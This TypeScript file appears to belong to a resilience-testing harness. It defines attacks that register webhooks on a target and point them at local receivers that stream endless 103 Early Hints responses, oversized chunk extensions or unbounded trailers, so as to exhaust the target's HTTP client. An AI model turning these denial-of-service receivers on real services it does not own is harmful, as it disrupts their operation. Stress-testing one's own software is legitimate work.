/** Webhooks of a client with the token, whose receivers send more than a response. */
import { once } from "node:events";
import { type AddressInfo, createServer, type Socket } from "node:net";
import { clientAddresses } from "../addresses.ts";
import type { Attack } from "../attack-definition.ts";
import { register, removeAll } from "./webhooks.ts";

const WEBHOOKS = 6;
const HEADERS = "x: y\r\n".repeat(200);
const CHUNKED = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n";

/** Receiver that responds to each connection with the first text, then with the other one without an end. */
async function startEndless(first: string, repeated: string) {
  const open = new Set<Socket>();
  const bytes = Buffer.from(repeated);
  const server = createServer((socket) => {
    open.add(socket);
    const write = () => {
      while (!socket.destroyed && socket.write(bytes));
    };
    socket.on("error", () => {}).once("close", () => open.delete(socket));
    socket.on("drain", write).resume();
    socket.once("data", () => {
      socket.write(first);
      write();
    });
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    port: (server.address() as AddressInfo).port,
    close() {
      server.close();
      for (const socket of open) socket.destroy();
    },
  };
}

const endless = (what: string, network: number, first: string, repeated: string): Attack => ({
  name: `endless ${what}`,
  description: `${WEBHOOKS} webhooks for every event, whose receivers send ${what} without an end`,
  async run(target, tally, signal) {
    const addresses = clientAddresses(network);
    const { port, close } = await startEndless(first, repeated);
    await register(target, tally, signal, { count: WEBHOOKS, port, addresses });
    close();
    await removeAll(target, addresses);
  },
});

export const interimResponses = endless(
  "interim responses",
  50,
  "",
  `HTTP/1.1 103 Early Hints\r\n${HEADERS}\r\n`.repeat(50),
);
export const chunkExtensions = endless("chunk extensions", 51, `${CHUNKED}1`, ";name=value".repeat(5_000));
export const trailers = endless("trailers", 52, `${CHUNKED}0\r\n`, HEADERS.repeat(50));
